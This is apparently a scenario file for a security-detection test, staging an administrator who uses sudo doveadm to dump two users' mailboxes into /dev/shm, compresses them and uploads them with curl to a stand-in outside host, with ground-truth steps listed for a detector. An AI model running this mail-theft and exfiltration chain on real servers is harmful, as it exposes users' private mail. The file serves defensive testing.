# The server's own administration program is asked for everybody's mail.
title="doveadm fetches other people's mail, curl uploads it"
what="Under the administrator's login doveadm fetch writes the text of every message of clerk and buyer into a file in /dev/shm (sudo), xz packs it and curl uploads it to 203.0.113.66."
host=mx1.example.org user=ops daemons="cron sshd dovecot"

setup() { dovecot_config; echo 'ops ALL=(root) NOPASSWD: /usr/bin/doveadm' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops; }
act() {
  small_talk 4
  for n in 1 2 3; do mail_in --from "law$n@example.net" --to clerk@example.org --to buyer@example.org --subject "Case $n"; done
  wait_mail clerk 3; wait_mail buyer 3
  ssh_as ops <<'L'
sudo doveadm -f flow fetch -u clerk text all > /dev/shm/sess1
sudo doveadm -f flow fetch -u buyer text all >> /dev/shm/sess1
xz -f /dev/shm/sess1
%sleep 2
curl -s --upload-file /dev/shm/sess1.xz http://drop.example.net/in/s1
rm /dev/shm/sess1.xz
L
  small_talk 1
}
truth() {
  exec_step fetch 'doveadm -f flow fetch -u clerk' 'the mail of another is fetched'
  exec_step pack 'xz -f /dev/shm/sess1' 'and packed'
  net_step connect 'curl 203.0.113.66:80' 'and uploaded'
}
